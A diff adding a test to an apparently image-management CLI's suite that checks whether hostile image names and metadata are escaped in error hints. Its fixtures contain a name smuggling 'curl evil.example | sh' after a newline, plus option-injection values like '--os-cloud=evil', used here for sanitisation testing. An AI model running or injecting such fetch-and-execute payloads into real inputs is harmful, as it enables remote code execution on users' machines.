@@ -86,3 +86,20 @@ it('verify says first what it found, and of which file', async () => {
     '',
   ]);
 });
+
+it('a hint is one line, whatever strangers call their images and files', async () => {
+  const cwd = await tempDir();
+  const name = 'ubuntu\ncurl evil.example | sh #';
+  const server = await glance([makeEntry('x', { id: '1', name })]);
+  const shown = await server.cli(['show', 'ubuntu'], { cwd });
+  expect([shown.code, shown.stderr]).toEqual([3, expect.stringContaining('did you mean "ubuntu\\x0acurl')]);
+  expect(shown.stderr).not.toMatch(/^ *curl/m);
+  const checksum = '0'.repeat(32);
+  await writeFile(join(cwd, 'x.raw'), 'data');
+  for (const record of [{ name }, { name: '--post' }, { id: '--os-cloud=evil', name: 'x' }]) {
+    await writeFile(join(cwd, 'x.raw.json'), JSON.stringify({ ...record, size: 4, checksum }));
+    const { code, stderr } = await server.cli(['verify', 'x.raw'], { cwd });
+    expect([code, stderr]).toEqual([6, expect.stringMatching(/^ {4}glance-cli download IMAGE -o x\.raw --force$/m)]);
+    expect(stderr).not.toMatch(/^ *curl/m);
+  }
+});
